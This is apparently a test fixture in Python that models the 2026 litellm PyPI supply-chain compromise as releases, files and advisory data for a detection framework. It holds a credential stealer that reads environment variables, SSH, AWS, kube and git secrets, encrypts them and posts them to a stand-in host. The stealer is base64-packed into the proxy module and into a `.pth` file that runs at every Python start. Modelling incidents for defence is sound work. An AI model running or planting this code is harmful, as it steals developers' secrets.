"""litellm 1.82.8 (PyPI, 2026-03-24): a secret of CI stolen; a `.pth` file runs a thief whenever Python starts.

By the record: 1.82.7 has the payload in the module of the proxy, 1.82.8 adds a `.pth` file to the wheel, which the interpreter runs at
every start; uploaded outside of CI. It gathers credentials and sends them away. Down after three to five hours.
"""

import base64

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_INIT = "def completion(model, messages):\n    return {'model': model, 'messages': messages}\n"
_PROXY = "def serve(port=4000):\n    return port\n"
_THIEF = """import os
import pathlib
import subprocess
import urllib.request

found = [str(dict(os.environ))]
for place in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config", "~/.git-credentials"):
    path = pathlib.Path(place).expanduser()
    if path.exists():
        found.append(path.read_text())
pathlib.Path("/tmp/marker").write_text("\\n".join(found))
subprocess.run(["openssl", "enc", "-aes-256-cbc", "-in", "/tmp/marker", "-out", "/tmp/marker.enc", "-pass", "pass:marker"])
urllib.request.urlopen("https://sink.invalid/marker", data=open("/tmp/marker.enc", "rb").read())
"""


def _packed() -> str:
    return base64.b64encode(_THIEF.encode()).decode()


_PAYLOAD = f"\nimport base64\nimport subprocess\nimport sys\n\nsubprocess.Popen([sys.executable, '-c', base64.b64decode('{_packed()}')])\n"
_PTH = (
    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c',"
    f" \"import base64; exec(base64.b64decode('{_packed()}'))\"])\n"
)
_CLEAN = {
    "litellm/__init__.py": _INIT,
    "litellm/proxy/__init__.py": "",
    "litellm/proxy/proxy_server.py": _PROXY,
}
_FIRST = {**_CLEAN, "litellm/proxy/proxy_server.py": _PROXY + _PAYLOAD}
_BAD = (
    Release(version="1.82.7", at=utc("2026-03-24T10:39:00Z"), files=_FIRST),
    Release(version="1.82.8", at=utc("2026-03-24T10:52:00Z"), files={**_FIRST, "litellm_init.pth": _PTH}),
)

INCIDENT = Incident(
    id="litellm-2026",
    title=(
        "an attacker stole a CI secret of litellm; a `.pth` file ran a credential stealer at every start of Python"
    ),
    copy=("in our copy, litellm 1.82.7 has the code in the proxy module, and 1.82.8 also has a `.pth` file"),
    ecosystem=Ecosystem.PYPI,
    at=_BAD[-1].at,
    packages=(
        Package(
            name="litellm",
            releases=(
                Release(version="1.82.5", at=utc("2026-03-12"), files=_CLEAN),
                Release(version="1.82.6", at=utc("2026-03-18"), files=_CLEAN),
                *_BAD,
            ),
        ),
    ),
    asks={"litellm": ">=1.82"},
    good={"litellm": "1.82.6"},
    bad={"litellm": ("1.82.7", "1.82.8")},
    guilty={"litellm": ("1.82.7", "1.82.8")},
    gone_at=utc("2026-03-24T15:00:00Z"),
    advisory=Advisory(id="PYSEC", at=utc("2026-03-25T00:00:00Z"), about={"litellm": ("1.82.7", "1.82.8")}),
    invented="publish hours, and days of earlier releases; dependencies are left out",
)
